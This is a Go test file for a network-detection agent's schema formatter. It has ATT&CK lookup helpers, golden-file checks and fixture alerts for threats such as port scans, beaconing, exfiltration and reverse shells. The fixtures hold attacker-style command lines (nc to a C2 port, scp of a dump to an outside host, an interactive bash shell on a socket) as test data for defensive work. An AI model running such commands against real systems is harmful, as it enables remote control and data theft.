package schemas

import (
	"bytes"
	"encoding/json"
	"flag"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/netsentinel/netsentinel/detect"
)

var update = flag.Bool("update", false, "rewrite golden files and elasticsearch/index-template.json")

// refPath finds a file of the shared reference data, which lives beside the
// repository (../shared from the repository root).
func refPath(t testing.TB, name string) string {
	t.Helper()
	p := filepath.Join("..", "..", "shared", "reference", name)
	if _, err := os.Stat(p); err != nil {
		t.Fatalf("reference data %s not found (shared/ must sit beside the repository): %v", p, err)
	}
	return p
}

// referenceLookup is a TechniqueLookup read straight from
// ../shared/reference/attack-enterprise.json; TestDetectLookupMatchesReference
// checks DetectLookup (what the tests and the program use) against it.
var (
	attackOnce sync.Once
	attackMap  map[string]TechniqueRef
	attackErr  error
)

func referenceLookup(t testing.TB) TechniqueLookup {
	t.Helper()
	attackOnce.Do(func() {
		b, err := os.ReadFile(refPath(t, "attack-enterprise.json"))
		if err != nil {
			attackErr = err
			return
		}
		var f struct {
			Tactics []struct {
				ID, Name, Shortname, URL string
			}
			Techniques []struct {
				ID, Name, URL       string
				Parent              string
				ParentName          string `json:"parent_name"`
				Tactics             []string
				Deprecated, Revoked bool
			}
		}
		if attackErr = json.Unmarshal(b, &f); attackErr != nil {
			return
		}
		tactics := map[string]TacticRef{}
		for _, ta := range f.Tactics {
			tactics[ta.Shortname] = TacticRef{ID: ta.ID, Name: ta.Name, URL: ta.URL}
		}
		attackMap = map[string]TechniqueRef{}
		for _, te := range f.Techniques {
			if te.Deprecated || te.Revoked {
				continue
			}
			ref := TechniqueRef{ID: te.ID, Name: te.Name, URL: te.URL, ParentID: te.Parent, ParentName: te.ParentName}
			if te.Parent != "" {
				ref.ParentURL = TechniqueURL(te.Parent)
			}
			for _, s := range te.Tactics {
				ref.Tactics = append(ref.Tactics, tactics[s])
			}
			attackMap[te.ID] = ref
		}
	})
	if attackErr != nil {
		t.Fatalf("loading ATT&CK reference: %v", attackErr)
	}
	return func(id string) (TechniqueRef, bool) {
		r, ok := attackMap[id]
		return r, ok
	}
}

// attackLookup is the lookup the formatters get in tests: detect's catalogue.
func attackLookup(testing.TB) TechniqueLookup { return DetectLookup }

var testHost = Host{
	Hostname: "sensor-01", Name: "sensor-01", ID: "4c4c4544004d3010804bb4c04f4a4d32",
	IPs: []string{"10.0.0.5", "2001:db8::5"}, OSType: "linux", OSName: "Debian GNU/Linux",
	OSFull: "Debian GNU/Linux 12 (bookworm)", OSFamily: "debian", OSVersion: "12",
	OSKernel: "6.1.0-18-amd64", OSPlatform: "debian", Architecture: "x86_64",
}

var fixedNow = time.Date(2026, 11, 25, 21, 45, 30, 123_000_000, time.UTC)

func testECS(t testing.TB) *ECS {
	t.Helper()
	f, err := NewECS(testHost, Meta{Version: "1.0.0-test", AgentID: "agent-0001",
		AgentName: "netsentinel-7xk2p", EphemeralID: "6f1c2a1e-0c1d-4b52-9a0e-3d2f1b7c9e10",
		Labels: map[string]string{"env": "prod", "team": "soc"}, Tags: []string{"dc1", "pci"},
		Orchestrator: Orchestrator{Type: "kubernetes", ClusterName: "prod-eu-1", Namespace: "netsentinel",
			ResourceName: "netsentinel-7xk2p", ResourceType: "pod"}}, attackLookup(t))
	if err != nil {
		t.Fatal(err)
	}
	f.now = func() time.Time { return fixedNow }
	return f
}

type namedAlert struct {
	name  string
	alert detect.Alert
}

func ap(s string) netip.AddrPort { return netip.MustParseAddrPort(s) }
func ipOnly(s string) netip.AddrPort {
	return netip.AddrPortFrom(netip.MustParseAddr(s), 0)
}

// fixtureAlerts covers the nine original threat types and the newer ones,
// with process context, sub-techniques, windows, IPv6 and a multi-tactic
// technique.
func fixtureAlerts() []namedAlert {
	t0 := time.Date(2026, 11, 25, 21, 45, 0, 0, time.UTC)
	cet := time.FixedZone("CET", 3600)
	nc := &detect.ProcessInfo{PID: 4242, Name: "nc", Executable: "/usr/bin/nc.openbsd",
		Args: []string{"nc", "203.0.113.7", "4444"}, User: "alice", UID: 1000, PPID: 4100, ParentName: "bash"}
	return []namedAlert{
		{"suspicious_port", detect.Alert{ID: "a-0001", RuleID: "suspicious_port", ThreatType: detect.ThreatSuspiciousPort,
			Technique: "T1571", Severity: detect.SeverityHigh, Time: t0, Message: "nc connected to 203.0.113.7:4444, a known RAT/C2 port",
			Transport: "tcp", Direction: "egress", Source: ap("10.0.0.5:43122"), Dest: ap("203.0.113.7:4444"), Process: nc,
			Evidence: map[string]any{"port": 4444, "port_list": "rat_c2"}, Recommendation: detect.Recommendation(detect.ThreatSuspiciousPort),
			Entity: "nc|203.0.113.7:4444", Count: 1}},
		{"port_scan", detect.Alert{ID: "a-0002", RuleID: "port_scan_inbound", ThreatType: detect.ThreatPortScan,
			Technique: "T1046", Severity: detect.SeverityHigh, Time: t0.Add(time.Second), Start: t0.Add(-5 * time.Minute), End: t0.Add(time.Second),
			Message: "198.51.100.9 probed 120 ports of this host in 5m", Transport: "tcp", Direction: "ingress",
			Source: ipOnly("198.51.100.9"), Dest: ipOnly("10.0.0.5"),
			Evidence: map[string]any{"distinct_ports": 120, "threshold": 15, "window": 5 * time.Minute, "ports_sample": []uint16{22, 80, 443},
				"out_rsts_delta": uint64(998)},
			Recommendation: detect.Recommendation(detect.ThreatPortScan), Entity: "198.51.100.9", Count: 2}},
		{"lateral_movement", detect.Alert{ID: "a-0003", RuleID: "lateral_movement", ThreatType: detect.ThreatLateral,
			Technique: "T1021.004", Severity: detect.SeverityCritical, Time: t0.Add(2 * time.Second), Start: t0.Add(-10 * time.Minute), End: t0.Add(2 * time.Second),
			Message: "ssh reached 4 internal hosts on admin port 22 in 10m", Transport: "tcp", Direction: "internal",
			Source: ap("10.0.0.5:50522"), Dest: ap("10.0.0.23:22"),
			Process:  &detect.ProcessInfo{PID: 5150, Name: "ssh", Executable: "/usr/bin/ssh", Args: []string{"ssh", "root@10.0.0.23"}, User: "bob", UID: 1001, PPID: 5100, ParentName: "bash"},
			Evidence: map[string]any{"hosts": []string{"10.0.0.20", "10.0.0.21", "10.0.0.22", "10.0.0.23"}, "threshold": 3},
			Entity:   "ssh", Count: 1}},
		{"suspicious_dns", detect.Alert{ID: "a-0004", RuleID: "suspicious_dns", ThreatType: detect.ThreatSuspiciousDNS,
			Technique: "T1071.004", Severity: detect.SeverityMedium, Time: t0.Add(3 * time.Second).In(cet),
			Message: "dig sent DNS to 198.51.100.53, not a configured resolver", Transport: "udp", Direction: "egress",
			Source: ap("10.0.0.5:53211"), Dest: ap("198.51.100.53:53"),
			Process:  &detect.ProcessInfo{PID: 6001, Name: "dig", Executable: "/usr/bin/dig", Args: []string{"dig", "@198.51.100.53", "example.org"}, UID: 0, User: "root"},
			Evidence: map[string]any{"resolvers": []string{"10.0.0.1"}, "server": netip.MustParseAddr("198.51.100.53")},
			Entity:   "dig|198.51.100.53", Count: 1}},
		{"tor_usage", detect.Alert{ID: "a-0005", RuleID: "tor", ThreatType: detect.ThreatTor,
			Technique: "T1090.003", Severity: detect.SeverityHigh, Time: t0.Add(4 * time.Second),
			Message: "tor connected to 198.51.100.101:9001 (Tor ORPort)", Transport: "tcp", Direction: "egress",
			Source: ap("10.0.0.5:40000"), Dest: ap("198.51.100.101:9001"),
			Process:  &detect.ProcessInfo{PID: 7007, Name: "tor", Executable: "/usr/bin/tor", Args: []string{"tor", "--SocksPort", "9050"}, User: "debian-tor", UID: 107, PPID: 1, ParentName: "systemd"},
			Evidence: map[string]any{"port": 9001, "reason": "tor_port"}, Entity: "tor|198.51.100.101", Count: 3}},
		{"beaconing", detect.Alert{ID: "a-0006", RuleID: "beaconing", ThreatType: detect.ThreatBeaconing,
			Technique: "T1071", Severity: detect.SeverityMedium, Time: t0.Add(5 * time.Second), Start: t0.Add(-30 * time.Minute), End: t0.Add(5 * time.Second),
			Message: "curl connects to 203.0.113.50:443 every 60s (score 0.93)", Transport: "tcp", Direction: "egress",
			Source: ap("10.0.0.5:41000"), Dest: ap("203.0.113.50:443"),
			Process:  &detect.ProcessInfo{PID: 8080, Name: "curl", Args: []string{"curl", "-s", "https://203.0.113.50/"}, UID: 1000, User: "alice"},
			Evidence: map[string]any{"score": 0.93, "connections": 31, "median_interval_s": 60.0, "sub": map[string]any{"ts_score": 0.97, "size_score": 0.9}},
			Entity:   "curl|203.0.113.50:443", Count: 1}},
		{"process_spawn", detect.Alert{ID: "a-0007", RuleID: "process_spawn", ThreatType: detect.ThreatProcessSpawn,
			Technique: "T1059.004", Severity: detect.SeverityCritical, Time: t0.Add(6 * time.Second),
			Message:  "nginx started a shell: sh -c id",
			Process:  &detect.ProcessInfo{PID: 9100, Name: "sh", Executable: "/usr/bin/dash", Args: []string{"sh", "-c", "id"}, User: "www-data", UID: 33, PPID: 900, ParentName: "nginx"},
			Evidence: map[string]any{"ancestry": []string{"nginx", "sh"}, "protected_ancestor": "nginx"}, Entity: "nginx>sh", Count: 1}},
		{"arp_spoofing", detect.Alert{ID: "a-0008", RuleID: "arp_spoofing", ThreatType: detect.ThreatARPSpoofing,
			Technique: "T1557.002", Severity: detect.SeverityCritical, Time: t0.Add(7 * time.Second),
			Message:  "gateway 10.0.0.1 changed MAC from 52:54:00:aa:bb:01 to 52:54:00:de:ad:99",
			Source:   ipOnly("10.0.0.1"),
			Evidence: map[string]any{"ip": "10.0.0.1", "old_mac": "52:54:00:aa:bb:01", "new_mac": "52:54:00:de:ad:99", "gateway": true},
			Entity:   "10.0.0.1", Count: 1}},
		{"exfil_ipv6", detect.Alert{ID: "a-0009", RuleID: "exfil", ThreatType: detect.ThreatExfil,
			Technique: "T1048", Severity: detect.SeverityHigh, Time: t0.Add(8 * time.Second), Start: t0.Add(-5 * time.Minute), End: t0.Add(8 * time.Second),
			Message: "scp uploaded 120 MB to [2001:db8:1::9]:22 in 5m", Transport: "tcp", Direction: "egress",
			Source: ap("[2001:db8::5]:50000"), Dest: ap("[2001:db8:1::9]:22"),
			Process:  &detect.ProcessInfo{PID: 9900, Name: "scp", Args: []string{"scp", "dump.tar", "x@[2001:db8:1::9]:"}, UID: 1000, User: "alice"},
			Evidence: map[string]any{"bytes": uint64(120_000_000), "threshold_bytes": uint64(50_000_000)}, Entity: "scp|2001:db8:1::9", Count: 1}},
		{"reverse_shell", detect.Alert{ID: "a-0010", RuleID: "reverse_shell", ThreatType: detect.ThreatReverse,
			Technique: "T1059.004", Severity: detect.SeverityCritical, Time: t0.Add(9 * time.Second),
			Message: "bash has its stdin/stdout on a TCP socket to 203.0.113.66:9001", Transport: "tcp", Direction: "egress",
			Source: ap("10.0.0.5:39000"), Dest: ap("203.0.113.66:9001"),
			Process: &detect.ProcessInfo{PID: 9200, Name: "bash", Executable: "/usr/bin/bash", Args: []string{"bash", "-i"}, UID: 33, User: "www-data", PPID: 9100, ParentName: "sh"},
			Entity:  "bash|203.0.113.66:9001", Count: 1}},
		{"dns_hijack_low", detect.Alert{ID: "a-0011", RuleID: "dns_config", ThreatType: detect.ThreatDNSHijack,
			Technique: "T1565.002", Severity: detect.SeverityLow, Time: t0.Add(10 * time.Second),
			Message: "resolv.conf nameservers changed", Evidence: map[string]any{"old": []string{"10.0.0.1"}, "new": []string{"198.51.100.53"}},
			Entity: "resolv.conf", Count: 1}},
	}
}

// decode parses one JSON document keeping numbers exact.
func decode(t testing.TB, b []byte) map[string]any {
	t.Helper()
	dec := json.NewDecoder(bytes.NewReader(b))
	dec.UseNumber()
	var m map[string]any
	if err := dec.Decode(&m); err != nil {
		t.Fatalf("output is not one JSON object: %v\n%s", err, b)
	}
	if dec.More() {
		t.Fatalf("output holds more than one JSON value:\n%s", b)
	}
	return m
}

// checkGolden compares got with testdata/golden/name, rewriting it with -update.
func checkGolden(t *testing.T, name string, got []byte) {
	t.Helper()
	p := filepath.Join("testdata", "golden", name)
	if *update {
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(p)
	if err != nil {
		t.Fatalf("reading golden file (run go test ./schemas -update to create it): %v", err)
	}
	if !bytes.Equal(got, want) {
		gl, wl := strings.Split(string(got), "\n"), strings.Split(string(want), "\n")
		for i := 0; i < len(gl) || i < len(wl); i++ {
			var g, w string
			if i < len(gl) {
				g = gl[i]
			}
			if i < len(wl) {
				w = wl[i]
			}
			if g != w {
				t.Fatalf("%s differs from golden at line %d (run with -update if the change is intended)\n got: %s\nwant: %s", p, i+1, g, w)
			}
		}
	}
}
